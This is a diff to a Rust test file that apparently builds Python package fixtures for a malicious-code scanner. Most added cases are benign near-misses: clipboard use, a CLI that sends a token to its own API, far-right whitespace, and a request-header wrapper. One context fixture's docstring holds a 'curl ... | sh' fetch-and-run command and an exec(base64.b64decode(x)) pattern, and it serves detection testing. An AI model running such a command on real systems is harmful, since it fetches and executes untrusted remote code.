@@ -132,5 +132,35 @@ def clean(root="build"):
 def reset_cache():
     shutil.rmtree(os.path.join(os.path.expanduser("~"), ".cache", "«pkg»"), ignore_errors=True)
 "#))
-        .case("docs-say-exec", init("\"\"\"Never write exec(base64.b64decode(x)).\n\n>>> import os; os.system('curl http://192.0.2.8/x | sh')  # doctest: +SKIP\n\"\"\"\nfrom .text import shorten\n"));
+        .case("docs-say-exec", init("\"\"\"Never write exec(base64.b64decode(x)).\n\n>>> import os; os.system('curl http://192.0.2.8/x | sh')  # doctest: +SKIP\n\"\"\"\nfrom .text import shorten\n"))
+        .case("program-beside-library", init("from .text import shorten\n").file("«pkg»/__main__.py", r#"
+import sys
+from .cli import main
+if len(sys.argv) > 2 and sys.argv[1] == "--copy":
+    import pyperclip
+    pyperclip.copy(sys.argv[2])
+else:
+    main()
+"#).file("«pkg»/cli.py", r#"
+import json, os, subprocess, sys, urllib.request
+
+def main():
+    token = os.environ.get("SERVICE_TOKEN", "")
+    request = urllib.request.Request("https://api.service.example.invalid/v1/me", headers={"Authorization": "Bearer " + token})
+    print(json.load(urllib.request.urlopen(request)))
+    subprocess.run([sys.executable, "-c", f"import sys\nsys.path = [p for p in sys.path if p]\nprint({sys.argv!r})\n"], check=False)
+"#).file("«pkg»/bench.py", "from .cli import main\n\nif __name__ == \"__main__\":\n    main()\n"))
+        .case("aligned-far-right", init("from .text import shorten\n").bytes("«pkg»/far.py",
+            format!("def f(*args): return args\n\nvalue = f({}, (\n{}2, 3))\n", "1111, ".repeat(20).trim_end_matches(", "), " ".repeat(124)).into_bytes()))
+        .case("wrapped-requests", init(r#"
+import builtins, functools, http.client
+_request = http.client.HTTPConnection.request
+
+@functools.wraps(_request)
+def request(self, *args, **kwargs):
+    kwargs.setdefault("headers", {})["x-trace"] = "1"
+    return _request(self, *args, **kwargs)
+
+http.client.HTTPConnection.request = request
+"#));
 }
